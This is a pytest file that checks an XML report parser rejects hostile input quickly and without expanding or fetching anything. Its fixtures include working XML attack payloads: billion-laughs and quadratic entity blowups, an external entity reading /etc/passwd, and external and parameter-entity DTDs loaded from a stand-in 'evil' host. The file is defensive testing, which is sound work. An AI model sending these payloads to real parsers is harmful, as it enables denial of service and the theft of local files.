"""Hostile XML is refused quickly, before any entity is expanded or any file or URL is fetched."""

import time

import pytest

from winnow.core.cybertipline import CyberTiplineError, HostileXmlError, PackageLimitError, parse_report

LIMIT_SECONDS = 5  # generous: each of these is refused in milliseconds

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE report [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<report><additionalInfo>&lol9;</additionalInfo></report>
"""


def quadratic_blowup() -> bytes:
    entity = "x" * 100_000
    body = "&a;" * 20_000  # 2 GB of text if expanded
    return f'<?xml version="1.0"?><!DOCTYPE report [<!ENTITY a "{entity}">]><report><additionalInfo>{body}</additionalInfo></report>'.encode()


XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE report [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<report><additionalInfo>&xxe;</additionalInfo></report>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE report SYSTEM "http://example.com/evil.dtd">
<report/>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE report [<!ENTITY % remote SYSTEM "http://example.com/evil.dtd"> %remote;]>
<report/>
"""


def refused_quickly(content: bytes) -> CyberTiplineError:
    started = time.perf_counter()
    with pytest.raises(CyberTiplineError) as caught:
        parse_report(content, name="hostile.xml")
    assert time.perf_counter() - started < LIMIT_SECONDS
    return caught.value


@pytest.mark.parametrize(
    "content",
    [BILLION_LAUGHS, quadratic_blowup(), XXE_FILE, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion-laughs", "quadratic-blowup", "external-entity-file", "external-dtd", "parameter-entity"],
)
def test_it_refuses_dtds_and_entities_before_expanding_or_fetching_anything(content):
    error = refused_quickly(content)
    assert isinstance(error, HostileXmlError)
    assert error.document == "hostile.xml"
    assert "DTD" in error.reason


def test_it_never_puts_a_local_files_content_in_the_error():
    error = refused_quickly(XXE_FILE)
    assert "root:" not in str(error)


def test_it_refuses_an_entity_declared_without_a_doctype_too():
    # Undeclared entity references are simply not well-formed.
    error = refused_quickly(b"<report><additionalInfo>&xxe;</additionalInfo></report>")
    assert "not well-formed" in error.reason


def test_it_refuses_100000_levels_of_nesting_at_the_depth_limit():
    depth = 100_000
    content = b"<report>" + b"<a>" * depth + b"</a>" * depth + b"</report>"
    error = refused_quickly(content)
    assert isinstance(error, PackageLimitError)
    assert "nested more than 64 deep" in error.reason
    assert error.element_path.startswith("/report/a/a/")
